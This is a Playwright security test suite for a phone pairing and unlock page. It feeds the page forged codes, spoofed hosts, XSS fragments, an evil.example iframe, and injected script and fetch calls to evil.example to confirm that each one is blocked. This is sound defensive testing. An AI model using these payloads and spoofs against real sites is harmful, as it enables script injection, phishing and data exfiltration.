// What a phone page owes nobody: hostile codes and links, frames, false welcomes, foreign scripts, and keys that can be read.
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { expect, test } from '@playwright/test'
import { encodeWelcome, linkSegments } from '../../src/core/binding.ts'
import { phonePageHost } from '../support/phone-host.ts'
import { openPhone, type PhonePage } from '../support/phone-page.ts'
import { challengeLink, FakeStation, offerLink, pixelsOf, welcomeLink } from '../support/phone-station.ts'
import { answerOffer, bindShown, readDigits, readKeptKeys, scanWelcome } from '../support/phone-steps.ts'

const built = path.resolve(import.meta.dirname, '../../out/phone')
let folder: string
let phone: PhonePage
let station: FakeStation
test.beforeAll(async () => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'wardkey-page-'))
  fs.cpSync(built, folder, { recursive: true })
  // Chromium keeps pages of the wide world off this computer's own server; the frame below has to get there.
  phone = await openPhone({ folder, args: ['--disable-features=LocalNetworkAccessChecks'] })
  station = new FakeStation()
  await phone.visit()
})
test.afterAll(async () => {
  await phone.close()
  fs.rmSync(folder, { recursive: true })
})
test.beforeEach(async () => {
  await phone.page.goto('about:blank')
  await phone.visit()
})

const button = (name: string) => phone.page.getByRole('button', { name, exact: true })
const heading = (name: string) => phone.page.getByRole('heading', { name, exact: true })
const open = async (fragment: string) => {
  await phone.page.goto('about:blank')
  await phone.page.goto(`https://${phonePageHost}/#${fragment}`)
}

test('a phone that opens nothing is told to open the app, not that it is a trap', async () => {
  await open(challengeLink(station.challenge())[2])
  await expect(heading('This phone is not bound here yet.')).toBeVisible()
  await expect(button('Unlock')).toHaveCount(0)
})

test('no welcome makes a binding but that of the offer’s own workstation', async () => {
  const offer = station.makeOffer()
  const stranger = new FakeStation()
  const own = station.welcome(offer)
  const changed = (welcome: typeof own) => linkSegments(phonePageHost, 'S', encodeWelcome(welcome))
  const lies = [
    // By another station, in its own name and in the true one's.
    [
      welcomeLink(stranger.welcome(offer)),
      'That code was not made by the workstation you are binding to. Do not go on.',
    ],
    [
      welcomeLink(stranger.welcome(offer, { signingKey: station.signingKey })),
      'That code was not made by the workstation you are binding to. Do not go on.',
    ],
    [
      changed({ ...own, stationName: 'Ward 8' }),
      'That code was not made by the workstation you are binding to. Do not go on.',
    ],
    [
      changed({ ...own, agreementKey: stranger.welcome(offer).agreementKey }),
      'That code was not made by the workstation you are binding to. Do not go on.',
    ],
    [
      welcomeLink(station.welcome(station.makeOffer())),
      'That is not the next code of the workstation you are binding to.',
    ],
  ] as const
  for (const [lie, said] of lies) {
    await answerOffer(phone, offer)
    await scanWelcome(phone, lie)
    await expect(heading(said)).toBeVisible()
    await button('Back').click()
    expect(await readKeptKeys(phone.page)).toEqual([])
  }
  await open(welcomeLink(station.welcome(station.makeOffer()))[2])
  await expect(heading('Scan the workstation’s first code again.')).toBeVisible()
})

test('an unknown workstation is a warning in red, with no way to an answer', async () => {
  await bindShown(phone, station)
  await phone.scan(await pixelsOf(challengeLink(new FakeStation().challenge())))
  await expect(heading('This phone does not know this workstation.')).toBeVisible()
  await expect(phone.page.getByRole('alert')).toContainText('Do not go on.')
  await expect(phone.page.getByRole('main')).toHaveAttribute('data-tone', 'stop')
  await expect(button('Unlock')).toHaveCount(0)
})

test('codes that are not a workstation’s, or another page’s, ask for nothing', async () => {
  for (const text of [
    'https://example.org/',
    'javascript:alert(1)',
    `https://${phonePageHost}/?#${challengeLink(station.challenge())[2]}`,
    `https://${phonePageHost}@evil.example/#${challengeLink(station.challenge())[2]}`,
  ]) {
    await phone.scan(await pixelsOf(text))
    await expect(
      heading('That is not a code of a workstation.').or(heading('That code belongs to another page than this one.')),
    ).toBeVisible()
    await button('Back').click()
  }
  await phone.scan(await pixelsOf(challengeLink(station.challenge(), 'phone.evil.example')))
  await expect(heading('That code belongs to another page than this one.')).toBeVisible()
})

test('links with hostile fragments run nothing, and end in the same words', async () => {
  const good = challengeLink(station.challenge())[2]
  const offer = offerLink(station.makeOffer())[2]
  for (const fragment of [
    '<img src=x onerror=alert(1)>',
    `${good}A`,
    good.slice(1),
    `${good.slice(0, -1)}7`,
    `${offer}A`,
    `B${'A'.repeat(2000)}`,
    `S${'7'.repeat(1999)}`,
    'A'.repeat(100_000),
    '%00%ff',
  ]) {
    await open(fragment)
    await expect(heading('That is not a code of a workstation.')).toBeVisible()
    expect(phone.page.url()).toBe(`https://${phonePageHost}/`)
  }
})

test('inside another page it does not run', async () => {
  const { page } = phone
  await page.route('https://evil.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="https://${phonePageHost}/#${challengeLink(station.challenge())[2]}"></iframe>`,
    }),
  )
  await page.goto('https://evil.example/')
  const frame = page.frameLocator('iframe')
  await expect(frame.getByRole('heading', { name: 'Wardkey does not run inside another page.' })).toBeVisible()
  await expect(frame.getByRole('button')).toHaveCount(0)
})

test('no button that counts takes a press in the first moment of a view', async () => {
  await bindShown(phone, station)
  await phone.page.evaluate((hash) => {
    location.hash = hash
  }, challengeLink(station.challenge())[2])
  await expect(button('Unlock')).toBeVisible()
  const armedAfterMs = await phone.page.evaluate(async () => {
    const found = [...document.querySelectorAll('button')].find(({ textContent }) => textContent === 'Unlock')
    const start = performance.now()
    while (found?.disabled) await new Promise((next) => setTimeout(next, 10))
    return performance.now() - start
  })
  expect(armedAfterMs).toBeGreaterThan(10)
})

test('its policy runs no script of anybody else’s, inline or from elsewhere, and sends nothing out', async () => {
  const broken = await phone.page.evaluate(async () => {
    const told: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => told.push(effectiveDirective))
    const inline = document.createElement('script')
    inline.textContent = 'globalThis.ran = true'
    document.body.append(inline)
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    document.body.append(foreign)
    document.body.setAttribute('onclick', 'globalThis.ran = true')
    document.body.click()
    const style = document.createElement('style')
    style.textContent = 'body{background:red}'
    document.head.append(style)
    const sent = await fetch('https://evil.example/', { method: 'POST', mode: 'no-cors' }).then(
      () => true,
      () => false,
    )
    setTimeout('globalThis.ran = true')
    await new Promise((next) => setTimeout(next, 200))
    return { told: [...new Set(told)].sort(), ran: 'ran' in globalThis, sent }
  })
  expect(broken.ran).toBe(false)
  expect(broken.sent).toBe(false)
  expect(broken.told).toEqual(
    expect.arrayContaining(['connect-src', 'script-src', 'script-src-attr', 'script-src-elem', 'style-src-elem']),
  )
  const policy = await phone.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
  expect(policy).not.toContain('unsafe')
})

test('kept keys can be used and not read, and a new page leaves them in place', async () => {
  const { part } = await bindShown(phone, station)
  expect(await readKeptKeys(phone.page)).toEqual([{ sealed: false, readable: [] }])
  const before = await phone.page.evaluate(() => caches.keys())
  // Another version of the page, as a host would put it there.
  const worker = path.join(folder, 'service-worker.js')
  fs.writeFileSync(worker, fs.readFileSync(worker, 'utf8').replace(/PAGE_VERSION="\w+"/, 'PAGE_VERSION="next"'))
  const html = path.join(folder, 'index.html')
  fs.writeFileSync(html, fs.readFileSync(html, 'utf8').replace('<head>', '<head><!-- next -->'))
  await phone.page.evaluate(async () => {
    const registration = await navigator.serviceWorker.getRegistration()
    const changed = new Promise((next) => navigator.serviceWorker.addEventListener('controllerchange', next))
    await registration?.update()
    await changed
  })
  await phone.visit()
  expect(await phone.page.evaluate(() => document.documentElement.outerHTML)).toContain('<!-- next -->')
  expect(await phone.page.evaluate(() => caches.keys())).toEqual([...before, 'wardkey-page-next'])
  const challenge = station.challenge()
  await phone.scan(await pixelsOf(challengeLink(challenge)))
  await button('Unlock').click()
  await expect.poll(() => readDigits(phone.page)).toBe(station.digits(challenge, part.agreementKey))
})
